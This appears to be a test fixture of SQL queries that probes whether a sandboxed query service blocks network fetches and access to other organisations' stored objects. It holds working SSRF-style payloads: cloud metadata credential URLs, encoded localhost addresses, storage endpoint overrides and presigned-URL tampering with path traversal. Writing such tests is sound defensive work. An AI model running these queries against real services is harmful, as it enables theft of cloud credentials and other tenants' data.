-- Attempts at the network: @listener@ counts who connects; @other_target@ is another org's object and @own_target@ the query's own.
-- kind: addresses
from 'http://@listener@/x.csv'
from 'https://@listener@/x.parquet'
from 'http://user:password@@listener@/x.csv'
from 'hTTp://@listener@/x.csv'
select * from read_text('http://@listener@/x')
select * from read_blob('http://@listener@/x')
select * from read_csv('http://@listener@/x')
select * from read_json('http://@listener@/x')
select * from read_parquet('http://@listener@/x')
select * from read_parquet(['http://@listener@/x', 'http://@listener@/y'])
select * from read_text('http://@listener@/' || (select max(block_number) from blocks)::varchar)
select * from read_text('http://127.0.0.1:9001/2018-06-01/runtime/invocation/next')
select * from read_text('http://169.254.169.254/latest/meta-data/iam/security-credentials/')
select * from read_text('http://169.254.170.2/v2/credentials/x')
select * from read_text('http://[::ffff:127.0.0.1]:@listener_port@/x')
select * from read_text('http://0x7f000001:@listener_port@/x')
select * from read_text('http://2130706433:@listener_port@/x')
select * from read_text('http://localhost:@listener_port@/x')
select * from read_parquet('http://isotherm.invalid/x.parquet')
select * from read_parquet('s3://isotherm-planted/x.parquet')
select * from read_parquet('s3://b/x.parquet?s3_endpoint=@listener@&s3_use_ssl=false&s3_url_style=path')
select * from read_parquet('s3://b/x?s3_endpoint=@store@&s3_use_ssl=false&s3_url_style=path')
select * from read_parquet('s3a://isotherm-planted/x.parquet')
select * from read_parquet('r2://isotherm-planted/x.parquet')
select * from read_parquet('gcs://isotherm-planted/x.parquet')
select * from read_parquet('gs://isotherm-planted/x.parquet')
select * from read_parquet('hf://datasets/isotherm/planted/x.parquet')
select * from read_parquet('azure://isotherm-planted/x.parquet')
select * from read_parquet('abfss://isotherm-planted/x.parquet')
select * from read_text('ftp://@listener@/x')
select * from read_text('unix:///var/run/postgresql/.s.PGSQL.@postgres_port@')
select * from read_text('/tmp/.s.PGSQL.@postgres_port@')
select * from read_text('http://127.0.0.1:@postgres_port@/')
select * from glob('http://@listener@/*')
select * from glob('s3://isotherm-planted/**')
select * from sniff_csv('http://@listener@/x.csv')
select * from parquet_metadata('http://@listener@/x.parquet')
select http_get('http://@listener@/x')
select * from http_post('http://@listener@/x', headers => map {}, body => '')
-- kind: neighbours of a presigned URL
from '@own_url@'
select * from read_parquet('@own_url@')
select * from read_text('@store_url@@other_target@')
select * from read_text('@store_url@@other_target@?@own_signature@')
select * from read_text('@store_url@@own_target@/../other.csv?@own_signature@')
select * from read_text('@own_url@&response-content-type=text/csv')
select * from read_text('@own_url@#@other_target@')
select * from read_text('@store_url@/')
select * from read_text('@store_url@/?list-type=2')
select * from read_parquet(['@own_url@', '@store_url@@other_target@'])
copy (select 1) to '@own_url@'
copy (select 1) to '@store_url@/written.csv'
